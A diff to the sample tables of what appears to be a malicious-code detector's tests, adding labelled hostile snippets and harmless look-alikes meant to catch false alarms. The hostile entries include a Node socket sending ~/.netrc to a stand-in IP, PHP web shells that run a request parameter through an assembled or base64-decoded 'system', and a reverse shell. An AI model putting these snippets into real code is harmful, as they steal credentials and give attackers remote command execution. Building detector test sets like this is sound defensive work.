@@ -295,6 +295,11 @@ HOSTILE = {
         "  sock.pipe(sh.stdin); sh.stdout.pipe(sock);\n});", "reverse shell"),
     "a PHP variable function given a request parameter": (
         "<?php $f = base64_decode('c3lzdGVt'); $f($_GET['c']); ?>", "web requests"),
+    "a file written to a socket opened as new net.Socket": (
+        "const s = new net.Socket();\ns.connect(9000, '198.51.100.4');\n"
+        "s.write(fs.readFileSync(os.homedir() + '/.netrc'));", "key files"),
+    "a runner's name built from pieces and given a request value": (
+        "<?php $f = 'sys' . 'tem'; $c = $_GET['c']; $f($c); ?>", "web requests"),
     "the environment kept in one object's attribute and sent from another": (
         "class _State:\n    def __init__(self):\n        self.secrets = {k: v for k, v in os.environ.items()}\n\n"
         "class Reporter:\n    def __init__(self):\n        self.state = _State()\n\n    def send(self):\n"
@@ -467,6 +472,34 @@ BENIGN = {
     "a setting kept in an attribute and a different attribute sent": (
         "class Cfg:\n    def __init__(self):\n        self.env = dict(os.environ)\n        self.name = 'svc'\n\n"
         "requests.post('https://api.example.com/v1/register', json={'name': Cfg().name})"),
+    # session 41: a false-alarm hunt on the widened reader, written again here
+    "an attribute's name in a URL's host": (
+        "class Settings:\n    def __init__(self):\n        self.dev = dict(os.environ, DEBUG='1')\n\n"
+        "requests.post('https://hooks.myapp.dev/deployed', json={'ok': True})"),
+    "an option of the same name on another object": (
+        "class Runner:\n    def __init__(self):\n        self.env = dict(os.environ)\n\n"
+        "requests.post('https://api.myapp.example/v1/runs', json={'target': args.env})"),
+    "a queue worker posting what it takes": (
+        "while True:\n    item = jobs.get()\n    requests.post('https://api.myapp.example/v1/items', json=item)"),
+    "a supervisor restarting its worker": (
+        "while True:\n    p = multiprocessing.Process(target=work)\n    p.start()\n    p.join()"),
+    "a bounded repeat of requests": (
+        "for _ in itertools.repeat(None, 200):\n    requests.get('https://staging.myapp.example/health')"),
+    "a PHP closure given a request value": (
+        "<?php $clean = fn($v) => htmlspecialchars($v); echo $clean($_GET['q']); ?>"),
+    "a setup script fed from the terminal": (
+        "const child = spawn('/bin/sh', ['setup.sh']);\nprocess.stdin.pipe(child.stdin);"),
+    "team rules shared from the editor's folder": (
+        "for f in glob.glob('.cursor/rules/*.mdc'):\n    requests.post(GIST_URL, data=open(f).read())"),
+    "settings picked from the environment by name": (
+        "const { API_URL, PORT } = process.env;\nawait fetch(`${API_URL}/health?port=${PORT}`);"),
+    "how many screens there are, sent": (
+        "const sources = await desktopCapturer.getSources({ types: ['screen'] });\n"
+        "await fetch('https://api.myapp.example/stats', { method: 'POST', "
+        "body: JSON.stringify({ screens: sources.length }) });"),
+    "screen names sent to the app's own window": (
+        "const sources = await desktopCapturer.getSources({ types: ['screen'] });\n"
+        "mainWindow.webContents.send('screens', sources.map(s => s.name));"),
     "a poller that sleeps between requests": (
         "while True:\n    r = requests.get('https://status.example.com/api')\n    r.raise_for_status()\n"
         "    time.sleep(30)"),
